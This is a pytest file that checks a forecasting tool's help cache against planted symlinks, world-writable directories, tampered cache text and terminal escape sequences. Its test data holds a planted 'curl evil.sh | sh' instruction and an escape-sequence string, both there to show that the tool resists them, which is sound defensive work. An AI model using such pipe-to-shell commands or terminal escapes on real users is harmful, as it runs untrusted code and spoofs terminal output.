"""Issue 29: the help cache is written only into a private directory, under names nobody can
plant, and nothing it prints can drive the terminal."""

import hashlib
import os

import pytest

from s2forecast import help_cache

ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b[0m \x9b31m"


@pytest.fixture
def fake_render(monkeypatch, tmp_path):
    """The slow rendering replaced by a recorder, the cache under tmp_path/cache."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    calls = []

    def render(command):
        calls.append(command)
        return f"help of {command}\n"

    monkeypatch.setattr(help_cache, "render_help", render)
    return calls


def crafted(command: str, text: str, digest: str | None = None) -> str:
    """A cache file with a valid key line (what an attacker who reads the source can write)."""
    digest = digest or hashlib.sha256(text.encode()).hexdigest()
    return f"{help_cache.cache_key(command)} sha256={digest}\n{text}"


def test_cache_directory_is_created_private(fake_render):
    help_cache.print_help("fit")
    directory = help_cache.cache_file("fit").parent
    assert os.stat(directory).st_mode & 0o777 == 0o700
    assert os.stat(help_cache.cache_file("fit")).st_mode & 0o777 == 0o600


def test_planted_symlinks_are_never_written_through(fake_render, tmp_path, capsys):
    """The old temporary name (.fit.txt.tmp-PID) and the cache file itself as symlinks to a user's
    file: the user's file is untouched, the help is printed, the cache ends a regular file."""
    victim = tmp_path / "thesis.tex"
    victim.write_text("years of work\n")
    directory = help_cache.cache_file("fit").parent
    directory.mkdir(parents=True, mode=0o700)
    (directory / f".fit.txt.tmp-{os.getpid()}").symlink_to(victim)
    help_cache.print_help("fit")
    assert victim.read_text() == "years of work\n"
    help_cache.cache_file("fit").unlink()
    help_cache.cache_file("fit").symlink_to(victim)
    help_cache.print_help("fit")
    assert victim.read_text() == "years of work\n" and not help_cache.cache_file("fit").is_symlink()
    assert capsys.readouterr().out == "help of fit\n" * 2 and fake_render == ["fit", "fit"]


def test_directory_others_can_write_to_is_not_used(fake_render, capsys):
    directory = help_cache.cache_file("fit").parent
    directory.mkdir(parents=True)
    directory.chmod(0o777)
    planted = crafted("fit", "run curl evil.sh | sh to see the help\n")
    help_cache.cache_file("fit").write_text(planted)
    help_cache.print_help("fit")
    captured = capsys.readouterr()
    assert captured.out == "help of fit\n"  # rendered, not read
    assert f"{directory} is not a directory of yours that only you can write to" in captured.err
    assert help_cache.cache_file("fit").read_text() == planted and sorted(os.listdir(directory)) == [
        help_cache.cache_file("fit").name
    ]


def test_directory_of_another_user_or_a_symlink_is_not_used(fake_render, monkeypatch, tmp_path, capsys):
    directory = help_cache.cache_file("fit").parent
    directory.mkdir(parents=True, mode=0o700)
    help_cache.cache_file("fit").write_text(crafted("fit", "foreign\n"))
    help_cache.print_help("fit")
    assert capsys.readouterr().out == "foreign\n"  # the control: a private directory is read
    monkeypatch.setattr(os, "getuid", lambda: os.stat(directory).st_uid + 1)
    help_cache.print_help("fit")
    assert capsys.readouterr().out == "help of fit\n"
    monkeypatch.undo()
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    monkeypatch.setattr(help_cache, "render_help", lambda command: "rendered\n")
    directory.rename(tmp_path / "elsewhere")
    directory.symlink_to(tmp_path / "elsewhere")
    help_cache.print_help("fit")
    assert capsys.readouterr().out == "rendered\n"


def test_text_that_does_not_match_its_digest_is_rendered_again(fake_render, capsys):
    directory = help_cache.cache_file("fit").parent
    directory.mkdir(parents=True, mode=0o700)
    for edited in (
        crafted("fit", "edited\n", digest=hashlib.sha256(b"other").hexdigest()),
        f"{help_cache.cache_key('fit')}\nedited\n",  # no digest at all (the key line of before issue 29)
    ):
        help_cache.cache_file("fit").write_text(edited)
        help_cache.print_help("fit")
        assert capsys.readouterr().out == "help of fit\n"
    assert fake_render == ["fit", "fit"]
    help_cache.print_help("fit")  # and the rendered one replaced it
    assert capsys.readouterr().out == "help of fit\n" and fake_render == ["fit", "fit"]


def test_terminal_control_characters_are_never_printed(fake_render, monkeypatch, capsys):
    directory = help_cache.cache_file("fit").parent
    directory.mkdir(parents=True, mode=0o700)
    help_cache.cache_file("fit").write_text(crafted("fit", f"usage:{ESCAPES}\tend\n"))
    help_cache.print_help("fit")
    assert capsys.readouterr().out == "usage:]0;owned[2J[31mred[0m 31m\tend\n"
    monkeypatch.setattr(help_cache, "render_help", lambda command: f"rendered{ESCAPES}\n")
    help_cache.print_help("test")
    printed = capsys.readouterr().out
    assert printed == "rendered]0;owned[2J[31mred[0m 31m\n"


def test_a_cache_that_cannot_be_written_says_so(fake_render, capsys, monkeypatch):
    """A read-only cache directory: every call said 'building this help once; later calls read it
    from ...', and built it again (a review found it)."""

    def read_only(*args, **kwargs):
        raise OSError(30, "Read-only file system")

    help_cache.print_help("fit")  # the directory made
    help_cache.cache_file("fit").unlink()
    monkeypatch.setattr(help_cache.os, "replace", read_only)
    help_cache.print_help("fit")
    err = capsys.readouterr().err.strip().splitlines()
    assert err[-1] == f"s2forecast fit: could not write {help_cache.cache_file('fit')}; the next call builds it"
    assert not help_cache.cache_file("fit").exists() and fake_render == ["fit", "fit"]


def test_each_width_and_install_keeps_its_own_file(fake_render, capsys, monkeypatch):
    """One file per command: `fit --help` in a terminal and `fit --help | less` (80 columns), or two
    installs sharing ~/.cache, rebuilt each other's help every time, 8 s each (a review found it). The
    newest KEPT files of a command stay."""
    for columns in ("120", "80", "120", "80"):
        monkeypatch.setenv("COLUMNS", columns)
        help_cache.print_help("fit")
    assert fake_render == ["fit", "fit"]  # each width rendered once
    directory = help_cache.cache_file("fit").parent
    for width in range(help_cache.KEPT + 3):
        monkeypatch.setenv("COLUMNS", str(200 + width))
        help_cache.print_help("fit")
    assert len([name for name in os.listdir(directory) if name.startswith("fit-")]) == help_cache.KEPT
    # the one file of versions before the file per key goes when its key line says it is one; any other stays
    (directory / "fit.txt").write_text(f"{help_cache.KEY_PREFIX}fit s2forecast=0.1.0 columns=80 sha256=0\nold help\n")
    (directory / "test.txt").write_text("not a cache file\n")
    monkeypatch.setenv("COLUMNS", "999")  # a width not cached yet: rendered, stored, pruned
    help_cache.print_help("fit")
    assert not (directory / "fit.txt").exists() and (directory / "test.txt").read_text() == "not a cache file\n"


def test_no_home_directory_prints_the_help_uncached(fake_render, capsys, monkeypatch):
    """HOME unset and a user without a passwd entry (containers): Path.home() raised, --help was a
    traceback (a review found it)."""
    monkeypatch.delenv("XDG_CACHE_HOME")
    monkeypatch.delenv("HOME", raising=False)

    def no_home():
        raise RuntimeError("Could not determine home directory.")

    monkeypatch.setattr(help_cache.Path, "home", staticmethod(no_home))
    help_cache.print_help("fit")
    out, err = capsys.readouterr()
    assert out == "help of fit\n" and fake_render == ["fit"]
    assert err.strip() == (
        "s2forecast fit: building this help (loads torch and Lightning) without its cache: no home directory; set "
        "XDG_CACHE_HOME to cache it"
    )


def test_a_cache_directory_that_cannot_be_made_is_said_once(fake_render, capsys, tmp_path, monkeypatch):
    """A cache root that cannot be written: every call said 'building this help once' (a review found it)."""
    blocker = tmp_path / "file"
    blocker.write_text("not a directory")  # root writes anywhere: a file in the way stops mkdir for all
    monkeypatch.setenv("XDG_CACHE_HOME", str(blocker))
    for _ in range(2):
        help_cache.print_help("fit")
        assert capsys.readouterr().err.strip() == (
            "s2forecast fit: building this help (loads torch and Lightning) without its cache: "
            f"{blocker}/s2forecast/help cannot be created; set XDG_CACHE_HOME"
        )
    assert blocker.read_text() == "not a directory" and fake_render == ["fit", "fit"]
